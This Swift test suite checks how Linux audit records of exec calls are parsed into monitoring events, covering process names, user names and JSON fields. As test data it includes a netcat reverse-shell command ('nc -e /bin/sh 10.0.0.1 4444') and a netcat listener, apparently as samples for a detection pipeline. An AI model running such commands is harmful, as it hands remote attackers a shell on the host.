import ExecEvents
import HostProcesses
import Testing

@testable import AuditRecords

private func exec(
    syscallExtra: String = "",
    execve: String? = nil,
    path0: String? = nil,
    comm: String = "\"comm\"",
    exe: String = "\"/usr/bin/exe\""
) -> String {
    var lines = [
        "type=SYSCALL msg=audit(1700000000.000:5): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=100 auid=1000 uid=1001 euid=0 comm=\(comm) exe=\(exe) \(syscallExtra)"
    ]
    if let execve { lines.append("type=EXECVE msg=audit(1700000000.000:5): \(execve)") }
    if let path0 { lines.append("type=PATH msg=audit(1700000000.000:5): item=0 name=\(path0) inode=1") }
    lines.append("type=EOE msg=audit(1700000000.000:5):")
    return lines.joined(separator: "\n")
}

@Suite("Normalization into LINUX_PROCESS_EXEC")
struct NormalizationTests {
    /// The probe takes base names from the paths as text, invalid UTF-8 already repaired: the
    /// same as from the bytes the kernel gave, since a repaired sequence never spans a `/`.
    @Test func procNameOfHexPathsWithInvalidUTF8IsTheBaseNameOfTheirBytes() {
        // "/tmp/\xff\xc3/nc\xc3": a byte that is never UTF-8, a lead byte cut by '/', one cut by the end.
        let invoked = replay(text: exec(path0: "2F746D702FFFC32F6E63C3"), users: [:]).events.first
        #expect(invoked?.procName == "nc\u{FFFD}")
        #expect(invoked?.invokedPath == "/tmp/\u{FFFD}\u{FFFD}/nc\u{FFFD}")
        // Neither PATH item 0 nor a0: comm ("nc\xc3", hex).
        #expect(replay(text: exec(comm: "6E63C3"), users: [:]).events.first?.procName == "nc\u{FFFD}")
        // Only exe ("/opt/x\xff/", hex, a trailing slash).
        let exe = replay(text: exec(comm: "(null)", exe: "2F6F70742F78FF2F"), users: [:]).events.first
        #expect(exe?.procName == "x\u{FFFD}")
        #expect(exe?.exePath == "/opt/x\u{FFFD}/")
    }

    @Test func procNameComesFromPathItemZeroThenA0ThenCommThenExe() {
        let users: [Int64: String] = [:]
        #expect(
            replay(text: exec(execve: "argc=1 a0=\"a0name\"", path0: "\"/usr/bin/nc\""), users: users).events.first?
                .procName == "nc"
        )
        #expect(
            replay(text: exec(execve: "argc=1 a0=\"/opt/a0name\""), users: users).events.first?.procName == "a0name"
        )
        #expect(replay(text: exec(), users: users).events.first?.procName == "comm")
        #expect(replay(text: exec(comm: "(null)"), users: users).events.first?.procName == "exe")
        // fexecve: PATH item 0 has an empty name; fall back to a0.
        #expect(
            replay(text: exec(execve: "argc=1 a0=\"ncat\"", path0: "\"\""), users: users).events.first?.procName
                == "ncat"
        )
        // A relative path and a trailing slash still give the base name.
        #expect(
            replay(text: exec(path0: "\"./tools/nc.traditional\""), users: users).events.first?.procName
                == "nc.traditional"
        )
    }

    @Test func invokedNameIsKeptEvenThroughSymlinks() throws {
        // Debian's /usr/bin/nc → /etc/alternatives/nc → /bin/nc.openbsd.
        let event = try #require(
            replay(
                text: exec(
                    execve: "argc=3 a0=\"nc\" a1=\"-l\" a2=\"4444\"",
                    path0: "\"/usr/bin/nc\"",
                    comm: "\"nc\"",
                    exe: "\"/usr/bin/nc.openbsd\""
                )
            ).events.first
        )
        #expect(event.procName == "nc")
        #expect(event.exePath == "/usr/bin/nc.openbsd")
        #expect(event.swParam == "-l 4444")
    }

    @Test func argumentsAreDecodedOncePerExecAndLeftOutUnlessAskedFor() throws {
        var assembler = AuditEventAssembler()
        var completed: [AuditEventAssembler.CompletedExec] = []
        for line in exec(execve: "argc=2 a0=\"nc\" a1=ZZ", path0: "\"/usr/bin/nc\"").split(separator: "\n") {
            _ = Array(line.utf8).withUnsafeBytes { raw in assembler.ingest(line: raw) { completed.append($0) } }
        }
        let nc = try #require(completed.first)
        var normalizer = ExecEventNormalizer(hostName: "h", users: UserNameCache(names: [:]))
        var event = normalizer.event(from: nc, includingArguments: false)
        #expect(event.procName == "nc")
        #expect(event.args == nil && event.swParam == nil)
        // Not decoded (the process table keeps the records, for a child to ask): nothing counted.
        #expect(normalizer.malformedArgumentFields == 0)
        normalizer.attachArguments(from: nc, to: &event)
        #expect(event.args?.map(\.text) == ["nc", "ZZ"])
        #expect(event.swParam == "ZZ")
        #expect(normalizer.malformedArgumentFields == 1)
        // The pipeline's way: the index probe, handed back for the whole event, decoded once.
        var pipeline = ExecEventNormalizer(hostName: "h", users: UserNameCache(names: [:]))
        let probe = pipeline.probe(from: nc)
        #expect(probe.procName == "nc")
        #expect(pipeline.event(from: nc, probe: probe).swParam == "ZZ")
        #expect(pipeline.malformedArgumentFields == 1)
    }

    /// Each probe begins from one kept event: every field but the host name and the time is the
    /// exec's own, and a host name changed afterwards is the one events get.
    @Test func probesBeginFreshAndFollowTheHostName() throws {
        var assembler = AuditEventAssembler()
        var completed: [AuditEventAssembler.CompletedExec] = []
        let text = [
            exec(execve: "argc=2 a0=\"nc\" a1=\"-l\"", path0: "\"nc\""),
            exec(comm: "\"ls\"").replacing(":5)", with: ":6)")
                .replacing("1700000000.000", with: "1700000001.000"),
        ].joined(separator: "\n")
        for line in text.split(separator: "\n") {
            _ = Array(line.utf8).withUnsafeBytes { raw in assembler.ingest(line: raw) { completed.append($0) } }
        }
        assembler.finish { completed.append($0) }
        #expect(completed.count == 2)
        var normalizer = ExecEventNormalizer(hostName: "h", users: UserNameCache(names: [:]))
        let first = normalizer.probe(from: completed[0])
        #expect(first.hostName == "h" && first.procName == "nc" && first.args?.count == nil)
        #expect(first.invokedPath == nil && first.cwd == nil)
        #expect(first.eventTime == EventTime(seconds: 1_700_000_000))
        normalizer.hostName = "other"
        let second = normalizer.probe(from: completed[1])
        #expect(second.hostName == "other" && second.procName == "ls")
        #expect(second.eventTime == EventTime(seconds: 1_700_000_001))
        #expect(second.args == nil && second.swParam == nil && second.invokedPath == nil && second.cwd == nil)
        #expect(normalizer.event(from: completed[1], probe: second).hostName == "other")
    }

    @Test func swParamIsEmptyForABareCommandAndAbsentWithoutExecve() {
        #expect(replay(text: exec(execve: "argc=1 a0=\"nc\"")).events.first?.swParam == "")
        #expect(replay(text: exec()).events.first?.swParam == nil)
    }

    @Test func userFromEnrichedTranslationThenDatabaseThenNumber() {
        let enriched = exec(syscallExtra: "key=(null)\u{1d}AUID=\"carol\" UID=\"dave\"")
        #expect(replay(text: enriched, users: [1001: "db-user"]).events.first?.user == "dave")
        #expect(replay(text: enriched, users: [1001: "db-user"]).events.first?.loginUser == "carol")
        #expect(replay(text: exec(), users: [1001: "db-user", 1000: "login"]).events.first?.user == "db-user")
        #expect(replay(text: exec(), users: [1001: "db-user", 1000: "login"]).events.first?.loginUser == "login")
        #expect(replay(text: exec(), users: [:]).events.first?.user == "1001")
        #expect(replay(text: exec(), users: [:]).events.first?.loginUser == "1000")
    }

    @Test func parentProcNameComesFromTheExecsSeenBefore() {
        let text = """
            type=SYSCALL msg=audit(1700000000.000:1): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=200 uid=0 comm="bash" exe="/bin/bash"
            type=EXECVE msg=audit(1700000000.000:1): argc=1 a0="bash"
            type=EOE msg=audit(1700000000.000:1):
            type=SYSCALL msg=audit(1700000000.100:2): arch=c000003e syscall=59 success=yes exit=0 ppid=200 pid=201 uid=0 comm="nc" exe="/usr/bin/nc.openbsd"
            type=EXECVE msg=audit(1700000000.100:2): argc=1 a0="nc"
            type=EOE msg=audit(1700000000.100:2):
            """
        let events = replay(text: text).events
        #expect(events.map(\.parentProcName) == [nil, "bash"])
    }

    @Test func eventJSONHasTheDesignAttributeNames() throws {
        let event = try #require(replay(text: ncExec).events.first)
        let json = try JSONValue.parse(event.jsonLine)
        #expect(json["eventType"] == .string("LINUX_PROCESS_EXEC"))
        #expect(json["eventTime"] == .string("2026-11-29T05:55:22.174Z"))
        #expect(json["hostName"] == .string("test-host"))
        #expect(json["user"] == .string("bob"))
        #expect(json["procName"] == .string("nc"))
        #expect(json["swParam"] == .string("-e /bin/sh 10.0.0.1 4444"))
        #expect(json["procId"] == .integer(4001))
        #expect(json["parentProcId"] == .integer(4000))
        #expect(json["exePath"] == .string("/usr/bin/nc.openbsd"))
        #expect(json["cwd"] == .string("/home/bob"))
        #expect(json["uid"] == .integer(1001))
        #expect(json["auid"] == .integer(1000))
        #expect(json["args"] == .array(["nc", "-e", "/bin/sh", "10.0.0.1", "4444"].map(JSONValue.string)))
        #expect(json["argsHex"] == nil)
        // What is written can be read back as the same event.
        let back = try ExecEvent(json: json, defaultHostName: "other")
        #expect(back == event)
    }
}
